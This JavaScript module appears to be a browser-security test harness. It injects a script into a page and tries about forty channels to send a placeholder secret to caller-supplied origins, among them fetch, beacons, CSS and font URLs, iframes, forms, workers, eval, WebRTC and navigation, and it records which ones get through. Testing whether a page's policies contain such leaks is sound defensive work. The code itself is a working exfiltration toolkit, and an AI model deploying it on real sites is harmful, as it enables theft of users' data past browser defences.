// Served to a page as one of its own scripts: tries to bring a secret out of it in every way that a browser has. `addresses`
// is where each channel would like to go: an origin of its own, so that even a connection without a word tells which.
// Nothing here is told to anybody but by the other end.
const SECRET = "a-word-of-the-text";
const page = document;

const make = (tag, properties, place = page.body) => {
  const element = Object.assign(page.createElement(tag), properties);
  place.append(element);
  return element;
};

/** Where to: made when the attack runs, so that nothing is looked up early. */
export const CHANNELS = {
  fetch: (to) => fetch(`${to}?${SECRET}`, { mode: "no-cors" }),
  xhr: (to) => {
    const request = new XMLHttpRequest();
    request.open("POST", to);
    request.send(SECRET);
  },
  websocket: (to) => new WebSocket(to.replace("http", "ws")),
  "event-source": (to) => new EventSource(`${to}?${SECRET}`),
  beacon: (to) => navigator.sendBeacon(to, SECRET),
  "fetch-later": (to) => globalThis.fetchLater(`${to}?${SECRET}`, { activateAfter: 0 }),
  image: (to) => make("img", { src: `${to}?${SECRET}` }),
  "style-url": (to) => {
    const element = make("div", { textContent: "x" });
    element.style.setProperty("background-image", `url("${to}?${SECRET}")`);
    element.getBoundingClientRect();
  },
  font: (to) => new FontFace("stolen", `url("${to}?${SECRET}")`).load(),
  stylesheet: (to) => make("link", { rel: "stylesheet", href: `${to}?${SECRET}` }, page.head),
  prefetch: (to) => make("link", { rel: "prefetch", href: `${to}?${SECRET}` }, page.head),
  preconnect: (to) => make("link", { rel: "preconnect", href: to }, page.head),
  frame: (to) => make("iframe", { src: `${to}?${SECRET}` }),
  media: (to) => make("video", { src: `${to}?${SECRET}`, preload: "auto" }),
  object: (to) => make("object", { data: `${to}?${SECRET}`, type: "text/html" }),
  manifest: (to) => make("link", { rel: "manifest", href: `${to}?${SECRET}`, crossOrigin: "anonymous" }, page.head),
  form: (to) => {
    make("iframe", { name: "hole" });
    const form = make("form", { action: to, method: "post", target: "hole" });
    make("input", { name: "secret", value: SECRET }, form);
    form.submit();
  },
  ping: (to) => make("a", { href: "#ping", ping: `${to}?${SECRET}` }).click(),
  worker: (to) => {
    const text = `importScripts(${JSON.stringify(`${to}?${SECRET}`)}); fetch(${JSON.stringify(to)})`;
    return new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
  },
  script: (to) => make("script", { src: `${to}?${SECRET}` }),
  module: (to) => import(`${to}?${SECRET}`),
  "inline-script": (to) => make("script", { textContent: `new Image().src = ${JSON.stringify(`${to}?${SECRET}`)}; fetch(${JSON.stringify(to)}, { mode: "no-cors" })` }),
  eval: (to) => (0, eval)(`fetch(${JSON.stringify(to)}, { mode: "no-cors" })`),
  rtc: async (to) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: to.replace("http://", "stun:").replace(/\/$/, "") }] });
    connection.createDataChannel(SECRET);
    await connection.setLocalDescription(await connection.createOffer());
  },
  "rtc-of-a-frame": async (to) => {
    const { contentWindow } = make("iframe", {});
    const connection = new contentWindow.RTCPeerConnection({ iceServers: [{ urls: to.replace("http://", "stun:").replace(/\/$/, "") }] });
    connection.createDataChannel(SECRET);
    await connection.setLocalDescription(await connection.createOffer());
  },
  // What only the page itself can tell of.
  base: (to) => {
    make("base", { href: to }, page.head);
    if (document.baseURI === to) succeeded("base");
  },
  "script-text": () => {
    page.createElement("script").text = "";
    succeeded("script-text");
  },
  "own-rules": () => {
    trustedTypes.createPolicy("anything-goes", {});
    succeeded("own-rules");
  },
  "worker-of-a-text": async () => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" })));
    await new Promise((resolve) => (worker.onmessage = resolve));
    succeeded("worker-of-a-text");
  },
  "worker-of-the-host": (to) => new Worker(to),
  "form-of-the-page": (to) => {
    const form = make("form", { action: to, method: "post" });
    make("input", { name: "secret", value: SECRET }, form);
    form.submit();
  },
  popup: (to) => window.open(`${to}?${SECRET}`),
  navigation: (to) => location.assign(`${to}?${SECRET}`),
};

function succeeded(name) {
  page.documentElement.dataset.succeeded = `${page.documentElement.dataset.succeeded ?? ""} ${name}`.trim();
}

/** Tries the channels one after the other; what throws is one that is closed. Says on the page when it is through. */
export async function attack(addresses, names = Object.keys(addresses)) {
  for (const name of names) {
    try {
      // What never answers does not hold up the others.
      await Promise.race([CHANNELS[name](addresses[name]), new Promise((resolve) => setTimeout(resolve, 300))]);
    } catch {
      // Closed.
    }
  }
  page.documentElement.dataset.attacked = "1";
}
